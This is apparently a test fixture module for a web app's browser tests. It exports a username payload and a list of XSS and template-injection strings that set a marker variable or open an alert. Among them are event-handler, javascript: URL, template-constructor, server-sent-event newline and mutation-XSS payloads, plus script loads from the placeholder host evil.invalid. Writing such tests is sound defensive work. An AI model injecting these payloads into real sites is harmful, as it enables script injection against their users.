/**
 * XSS and template-injection payloads shared by the browser tests.
 * @module
 */

/** A username with a payload: no whitespace, 27 characters, so the username rules accept it. */
export const EVIL_NAME = '"><svg/onload=top.__xss=31>'

/** Each would set `window.__xss` (or `globalThis.__xss` on the server) or open a dialog if it ran. */
export const HAND_PICKED = [
  '<script>top.__xss=1</script>',
  '<img src=x onerror="top.__xss=2">',
  '<img src=x onerror=alert(3)>',
  '"><svg/onload=top.__xss=4>',
  "'><svg onload=alert(5)>",
  '<a href="javascript:top.__xss=6">click me</a>',
  'javascript:alert(7)',
  '<%= globalThis.__xss = 8 %>',
  '<%~ it.constructor.constructor("globalThis.__xss=9")() %>',
  "{{constructor.constructor('top.__xss=10')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literal on purpose
  '${globalThis.__xss=11}',
  '</textarea><script>top.__xss=12</script>',
  '</p></li></ol><script>top.__xss=13</script>',
  '<iframe srcdoc="<script>parent.__xss=14</script>"></iframe>',
  '<svg><script>top.__xss=15</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=top.__xss=16>',
  '<style>body{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:top.__xss=18">',
  '&lt;script&gt;top.__xss=19&lt;/script&gt; &amp; &#x3C;b&#x3E;',
  '<!--<script>top.__xss=20</script>-->',
  '<base href="https://evil.invalid/">',
  '<input autofocus onfocus=top.__xss=22>',
  '<details open ontoggle=top.__xss=23>',
  '<body onload=top.__xss=24>',
  '<object data="javascript:top.__xss=25"></object>',
  '"><script src=data:,top.__xss=26></script>',
  '\u2028\u2029<script>top.__xss=27</script>',
  '</script><script>top.__xss=28</script>',
  'x\n\nevent: created\ndata: {"post":{"id":999999,"body":"<img src=x onerror=top.__xss=29>"}}\n\n',
  'line one\r\nid: 1\r\nretry: 1\r\ndata: <script>top.__xss=30</script>',
  '<scr<script>ipt>top.__xss=32</scr</script>ipt>',
  '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
  '<svg><animate onbegin=top.__xss=33 attributeName=x dur=1s>',
  '<form action="javascript:top.__xss=34"><button>go</button></form>',
  '‮<b>right-to-left override</b>',
  '<p title="</p><script>top.__xss=35</script>">',
]
